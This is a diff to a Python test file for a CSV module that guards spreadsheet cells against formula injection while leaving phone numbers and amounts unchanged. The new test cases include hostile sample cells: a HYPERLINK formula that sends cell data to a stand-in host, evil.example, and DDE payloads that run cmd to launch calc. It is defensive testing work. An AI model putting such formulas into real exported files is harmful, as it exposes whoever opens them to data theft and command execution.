@@ -34,11 +34,28 @@ def test_a_quoted_cell_may_hold_the_delimiter_and_a_line_break_and_lines_still_c
 
 
 def test_our_own_formula_safe_cells_read_back_as_written():
-    cells = ["+447700900001", "=SUM(A1)", "-5", "@home", "plain", "'quoted by a person"]
+    cells = ["+447700900001", "=SUM(A1)", "-5", "@home", "plain", "'quoted by a person", "'+447700900001", "'=1",
+             "''=1", "'", "", "-", "+", "\tx", "\rx", "a=1", "+44 (0)7700 900001", "'-2+3"]
     assert [csvfile.unguard(csvfile.guard(cell)) for cell in cells] == cells
-    assert csvfile.guard("+447700900001") == "'+447700900001"
-    table = csvfile.read(b"to,x\n'+447700900001,'=1+1\n")
+    table = csvfile.read(b"to,x\n+447700900001,'=1+1\n")
     assert table.rows[0].values == {"to": "+447700900001", "x": "=1+1"}
+
+
+@pytest.mark.parametrize("cell", ["+447700900123", "+44 7700 900123", "+1 (555) 010-9999", "-12.50", "-5", "+1",
+                                  "0044-7700.900123", "(0)20 7946 0000", "-(5)"])
+def test_a_plain_number_is_written_as_it_is(cell):
+    """A phone number or an amount cannot run anything: scripts and spreadsheets read it unchanged."""
+    assert csvfile.plain_number(cell)
+    assert csvfile.guard(cell) == cell and csvfile.unguard(cell) == cell
+
+
+@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
+                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "=1+1", "+1+1", "-1*2", "+44 7700 x",
+                                  "\t=1", "\r=1", "+", "-", "+ 1", "-1 ", "+1e5", "-0x10", "+١٢٣", "=", "@",
+                                  "'=HYPERLINK(1)", "''+cmd|x"])
+def test_what_a_spreadsheet_could_run_is_still_guarded(cell):
+    assert csvfile.guard(cell) == "'" + cell
+    assert csvfile.unguard(csvfile.guard(cell)) == cell
 
 
 def test_what_cannot_be_a_table_is_refused_before_it_is_read():
